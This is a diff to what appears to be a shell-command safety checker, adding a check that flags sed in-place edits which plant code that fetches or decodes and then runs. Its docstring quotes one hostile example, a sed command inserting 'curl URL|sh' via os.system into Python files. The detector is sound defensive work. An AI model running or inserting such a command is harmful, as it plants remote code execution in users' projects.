@@ -949,6 +949,15 @@ def _quote(text: str) -> str:
 _BLANKS = lazy_pattern(r"\s*s(.)\^?\.\*\$?\1\1g?\s*")  # `s/.*//`: every line left empty
 
 
+def planted_code(command: Command, ctx: Context, text: str, where: str) -> None:
+    """`sed -i '1i import os; os.system("curl URL|sh")' *.py`: the text an edit puts into
+    files is code there; when that code fetches and runs, or decodes and runs, it is HIGH."""
+    found = [reason for level, reason in inline.inspect(text, "the").findings if level >= HIGH]
+    if found:
+        shown = found[0].removeprefix("the code ")
+        ctx.add(HIGH, f"puts code into {where} that {shown}", command)
+
+
 def sed(command: Command, ctx: Context) -> None:
     argv = command.argv
     if any(a.startswith(("-i", "--in-place")) or re.fullmatch(r"-[nErsuz]*i\S*", a) for a in argv):
@@ -967,6 +976,7 @@ def sed(command: Command, ctx: Context) -> None:
                 if emptied is not None and emptied.level > HIGH:
                     ctx.add(emptied.level, emptied.reason, command)
             text = weakening.sed_text(script)  # what the script puts in, unescaped
+            planted_code(command, ctx, text, value)
             content = (
                 config_content(value, script)
                 or config_content(value, text)
